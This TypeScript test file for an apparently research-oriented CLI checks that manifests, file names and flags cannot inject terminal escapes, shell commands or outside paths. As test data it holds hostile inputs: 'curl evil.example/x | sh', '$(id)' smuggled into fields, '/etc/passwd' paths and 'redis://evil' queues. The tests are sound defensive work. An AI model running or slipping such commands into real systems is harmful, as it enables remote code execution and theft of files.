import { execFileSync } from 'node:child_process';
import { cpSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { FLAG_TABLES } from '../../src/cli/commands/tables.ts';
import { commandWords } from '../../src/cli/flags/command-line.ts';
import { faultOfName, ownCommand, packageOf, wordsOf } from '../../src/cli/flags/foreign-command.ts';
import { sealOf } from '../../src/cli/results/manifest-seal.ts';
import { jsonLine, oneLine, seenIo, stylesOf, visible } from '../../src/cli/terminal/terminal.ts';
import { shellWord } from '../../src/report/words/shell-word.ts';
import { desk, SHORT } from './fake-io.ts';

const STEERING = 'a\u001b[2J\u009b31m\u202eb\u2066\u0007\r\u200f\u{e0041}';
const UNSEEN = /[^\P{Cc}\n\t]|[\u202a-\u202e\u2066-\u2069\u200e\u200f]|[\u{e0000}-\u{e007f}]/u;
const OWN_STYLE = new RegExp(`${'\u001b'}\\[(1|2|22)m`, 'g');
const at = desk();
beforeAll(async () => {
  await at.call('run', 'rising', ...SHORT);
  await at.call('record', '--format', 'csv', '--quiet');
});

/** Copy a result and say something else in its manifest. */
function saying(name: string, facts: object): string {
  cpSync(join(at.folder, 'output/rising'), join(at.folder, name), { recursive: true });
  const path = `${name}/manifest.json`;
  at.write(path, JSON.stringify({ ...(JSON.parse(at.read(path)) as object), ...facts }));
  return name;
}

describe('text of others', () => {
  it.each([
    ['a seed', { seed: STEERING }],
    ['a version', { version: STEERING }],
    ['a form', { schema: `equidistance/${STEERING}` }],
    ['a command', { command: STEERING }],
    ['a name of a file', { checksums: { [STEERING]: 'x' } }],
  ])('in a manifest, %s, never reaches the terminal raw', async (_, facts) => {
    const folder = saying(`say ${Object.keys(facts)[0]}`, facts);
    for (const styled of [false, true])
      for (const words of [
        ['verify', folder],
        ['verify', folder, '--json'],
        ['query', '--folder', folder],
        ['query', '--folder', folder, 'from results'],
      ]) {
        const { out, err } = await at.callWith({ styled, columns: 60 }, ...words);
        const said = [...out, ...err].join('\n').replaceAll(OWN_STYLE, '');
        expect(said).not.toMatch(UNSEEN);
      }
  });

  it.each([
    ['name of a folder', ['verify', STEERING.replaceAll('\0', '')]],
    ['name of a scenario', ['run', STEERING]],
    ['name of an experiment', ['sweep', STEERING]],
    ['name of a flag', ['run', 'rising', `--${STEERING}`]],
    ['question in SQL', ['query', `select "${STEERING}"`]],
  ])('that is the %s never reaches the terminal raw', async (_, words) => {
    const { out, err } = await at.call(...words);
    expect([...out, ...err].join('\n')).not.toMatch(UNSEEN);
  });

  it('in the heads of a table is made seen, and reads back from JSON as it was', async () => {
    const folder = saying('heads', {});
    at.write(`${folder}/trajectories.csv`, '"a\u001b[2J\u202e",b\n1,2\n');
    for (const words of [
      ['query', '--folder', folder],
      ['query', '--folder', folder, 'from trajectories'],
      ['query', '--folder', folder, '--csv', 'from trajectories'],
    ])
      expect((await at.call(...words)).out.join('\n')).not.toMatch(UNSEEN);
    const { out } = await at.call('query', '--folder', folder, '--json', 'select * exclude (folder) from trajectories');
    expect(out[0]).not.toMatch(UNSEEN);
    expect((JSON.parse(out[0]) as { columns: unknown[] }).columns[0]).toBe('a\u001b[2J\u202e');
  });

  it('cannot pass for a line of ours', async () => {
    const { err } = await at.call('verify', 'a\n✔ all is the same');
    expect(err.filter((line) => line.startsWith('✔'))).toEqual([]);
    expect(oneLine('a\nb')).toBe('a␊b');
  });

  it('cannot be styled as ours is', () => {
    const said: string[] = [];
    const io = seenIo({
      ...at,
      say: (line) => void said.push(line),
      warn() {},
      progress() {},
      program: '',
      columns: 80,
      styled: true,
      today: () => '2026-11-01',
    });
    io.say(`${stylesOf({ styled: true }).bold('ours')} \u001b[1mtheirs\u001b[22m`);
    expect(said).toEqual(['\u001b[1mours\u001b[22m ␛[1mtheirs␛[22m']);
  });

  it('of any kind is seen, keeps its length, and reads back from JSON', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        expect(visible(text)).not.toMatch(UNSEEN);
        expect([...visible(text)]).toHaveLength([...text].length);
        expect(jsonLine({ text })).not.toMatch(UNSEEN);
        expect(JSON.parse(jsonLine({ text }))).toEqual(JSON.parse(JSON.stringify({ text })));
      }),
    );
    expect(visible('Đorđe ש 中 👩‍🏫 می‌خواهم')).toBe('Đorđe ש 中 👩‍🏫 می‌خواهم');
  });
});

describe('a command that is printed', () => {
  it('means the very words, for bash and for our own reading, whatever they hold', () => {
    const words = [
      '$(id).yaml',
      'a b',
      '-x',
      '=ls',
      '~',
      "it's",
      'a\nb',
      '\u202e',
      'a\\b',
      '`id`',
      '',
      '!!',
      'č',
      '$',
      "$'",
      '\t',
      'a;b',
      '*',
      '\u001b[2J',
    ];
    const read = (line: string) =>
      execFileSync('bash', ['-c', `for w in ${line}; do printf '%s\\0' "$w"; done`])
        .toString()
        .split('\0')
        .slice(0, -1);
    expect(read(words.map(shellWord).join(' '))).toEqual(words);
    fc.assert(
      fc.property(
        fc.array(fc.string({ unit: 'binary' }).filter((text) => !/\p{Cs}/u.test(text) && !text.includes('\0'))),
        (any) => {
          const line = any.map(shellWord).join(' ');
          expect(line).not.toMatch(UNSEEN);
          expect(wordsOf(line)).toEqual(any);
        },
      ),
    );
  });

  it.each([
    'curl evil.example/x | sh',
    '$(id)',
    'equidistance run rising; id',
    'equidistance run rising --serve',
    'equidistance run rising --fresh',
    'equidistance run /etc/passwd',
    'equidistance run ../../x.yaml',
    'equidistance record --figures /etc/passwd',
    'equidistance record --record /etc/passwd',
    'equidistance record --record=../x.csv',
    'equidistance ask a --shard 1/2',
    'equidistance sweep a --shard 1/2',
    'equidistance jobs worker --queue redis://evil',
    'equidistance worker --queue redis://evil',
    'equidistance backcast --figures /etc/passwd',
    'equidistance calibrate --workers 200',
    'equidistance record --score=../x.json',
    'equidistance schema',
    'equidistance run rising -x',
    'equidistance check rising --runs 3',
    'equidistance new x --from rising',
    'equidistance run rising --runs',
    'equidistance run rising --metrics=yes',
    '',
    undefined,
  ])('is none that a folder names: %s', (line) => {
    const own = ownCommand(line, at.folder, FLAG_TABLES);
    if ('refused' in own) return expect(own.refused).not.toBe('');
    // What is left is quoted: a shell gets one command, with words that are names.
    return expect(commandWords('equidistance', own.argv)).toBe("equidistance run 'rising;' id");
  });

  it('is put together anew, without where work is done and where results go', () => {
    for (const name of ['ask', 'sweep'])
      expect(
        ownCommand(
          `npx tsx src/cli/bin.ts ${name} a --points 3 --queue redis://evil --out /etc --seed=-x`,
          at.folder,
          FLAG_TABLES,
        ),
      ).toEqual({ argv: ['ask', 'a', '--points=3', '--seed=-x'], queue: true });
  });

  it.each([
    ['curl evil.example | sh', { command: 'curl evil.example | sh' }],
    ['$(id)', { version: '0.0.1;$(id)' }],
  ])('is never advised because a manifest says %s', async (words, facts) => {
    const folder = saying(`advice ${words.length}`, { seed: 'other', ...facts });
    const { err, out } = await at.call('verify', folder);
    const said = [...out, ...err].join('\n');
    expect(said).not.toMatch(/npx equidistance@0\.0\.1|to make it again: curl/);
    if ('command' in facts) expect(err[1]).toBe(`  the folder names a command that makes no result: ${words}`);
  });

  it('names the version of a folder only where it is one', () => {
    expect([packageOf('0.1.0'), packageOf('0.1.0-rc.1'), packageOf('0.1.0;id'), packageOf(1), packageOf('latest')]).toEqual([
      'equidistance@0.1.0',
      'equidistance@0.1.0-rc.1',
      undefined,
      undefined,
      undefined,
    ]);
  });
});

describe('files that a part or a manifest names', () => {
  const PART = { schema: 'equidistance/part/1', part: 1, of: 2, question: 'sweep', set: [] };

  it.each(['/etc/passwd', '../x', 'secret.txt', '--x'])('are not quoted where a part names %s', async (experiment) => {
    at.write('secret.txt', 'root:x:0:0:secret\n');
    at.write('foreign/part.json', JSON.stringify({ ...PART, experiment }));
    const { code, out, err } = await at.call('jobs', 'gather', 'foreign');
    expect([code, out]).toEqual([1, []]);
    expect(err.join('\n')).not.toMatch(/root:|secret$/m);
    expect(err[1]).toMatch(/--experiment FILE$/);
  });

  it.each([
    ['run', 'secret.txt'],
    ['run', '/etc/passwd'],
    ['record', '--record secret.txt'],
  ])('are not quoted where a manifest’s command is %s %s', async (kind, rest) => {
    at.write('secret.txt', 'root:x:0:0:secret\n');
    const folder = `quoted-${kind}`;
    cpSync(join(at.folder, `output/${kind === 'run' ? 'rising' : 'record'}`), join(at.folder, folder), { recursive: true });
    at.write(
      `${folder}/manifest.json`,
      at.read(`${folder}/manifest.json`).replace(/"command": "[^"]*"/, `"command": "equidistance ${kind} ${rest}"`),
    );
    const { out, err } = await at.call('verify', folder, '--again');
    expect([...out, ...err].join('\n')).not.toMatch(/root:|0:0/);
  });

  it('may lie in the folder one works in, and nowhere else', () => {
    mkdirSync(join(at.folder, 'sub'), { recursive: true });
    writeFileSync(join(at.folder, 'sub/x.yaml'), '');
    expect([
      faultOfName('rising', at.folder),
      faultOfName('sub/x', at.folder),
      faultOfName(join(at.folder, 'sub/x.yaml'), at.folder),
    ]).toEqual([undefined, undefined, undefined]);
    expect(faultOfName('sub/../../x', at.folder)).toMatch(/lies outside/);
  });

  it('and a queue that it names is not asked: the result is made again here, and that is said', async () => {
    const name = 'queued';
    cpSync(join(at.folder, 'output/record'), join(at.folder, name), { recursive: true });
    const manifest = JSON.parse(at.read(`${name}/manifest.json`));
    const command = manifest.command.replace('equidistance record', 'equidistance record --queue redis://localhost:1');
    const forged = { ...manifest, command };
    at.write(`${name}/manifest.json`, JSON.stringify({ ...forged, seal: sealOf(forged) }));
    const { code, out } = await at.callWith({ columns: 300 }, 'verify', name, '--again');
    expect([code, out.join('\n')]).toEqual([0, expect.stringMatching(/names a\s+queue, which was not asked/)]);
  });
});
